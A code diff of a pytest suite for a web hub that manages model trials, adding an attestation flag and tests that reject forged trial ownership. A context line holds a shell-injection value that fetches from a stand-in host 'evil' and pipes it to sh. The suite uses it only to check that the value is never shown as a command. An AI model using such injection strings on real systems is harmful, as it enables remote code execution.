@@ -68,6 +68,7 @@ def opened(site: Site, trial: dict[str, Any], http: str, seconds: float = 600.0,
     """As the operator reports it."""
     status = {
         "phase": phase,
+        "attested": True,
         "duration": "10m",
         "expiresAt": (site.clock.now() + timedelta(seconds=seconds)).isoformat().replace("+00:00", "Z"),
         "endpoints": {"http": http, "grpc": "127.0.0.1:1"},
@@ -455,6 +456,43 @@ async def test_an_address_that_a_shell_would_obey_is_not_shown_as_a_command(
     trial["status"]["endpoints"]["http"] = "http://x/';curl evil|sh;'"
     site.cluster.put(trial)
     assert "curl evil" not in (await alice.get(path)).text
+
+
+@pytest.mark.parametrize("decided", [True, False])
+async def test_what_somebody_wrote_by_hand_in_anothers_name_is_none_of_theirs(
+    site: Site, alice: httpx2.AsyncClient, *, decided: bool
+) -> None:
+    await ask(alice)
+    hers = only_trial(site)
+    metadata = {
+        **hers["metadata"],
+        "name": "forged",
+        "uid": "forged",
+        "creationTimestamp": site.clock.now().isoformat(),
+    }
+    forged = {**hers, "metadata": metadata}
+    del site.cluster.kinds["Trial"]["reef", hers["metadata"]["name"]]
+    if decided:
+        forged = opened(site, forged, "http://127.0.0.1:1/reef/plankton")
+        forged["status"]["attested"] = False
+    site.cluster.put(forged)
+
+    assert "You have tried nothing yet" in (await alice.get("/me")).text
+    token = hidden((await alice.get("/models/reef/plankton")).text)
+    assert (await alice.get("/trials/reef/forged")).status_code == 404
+    assert "already" not in (await alice.get("/models/reef/plankton")).text
+    assert (await alice.post("/trials/reef/forged/stop", data={"csrf": token}, headers=OURS)).status_code == 404
+
+
+async def test_before_the_operator_has_looked_the_signature_says_whose_a_trial_is(
+    site: Site, alice: httpx2.AsyncClient
+) -> None:
+    path = (await ask(alice)).headers["location"]
+    made = only_trial(site)
+    site.cluster.put({**made, "metadata": {**made["metadata"], "creationTimestamp": site.clock.now().isoformat()}})
+    async with site.signed_in(ALICE) as elsewhere:
+        assert (await elsewhere.get(path)).status_code == 200
+        assert "already" in (await elsewhere.get("/models/reef/plankton")).text
 
 
 async def test_a_hub_that_was_restarted_knows_the_trials_and_asks_to_sign_in_again(
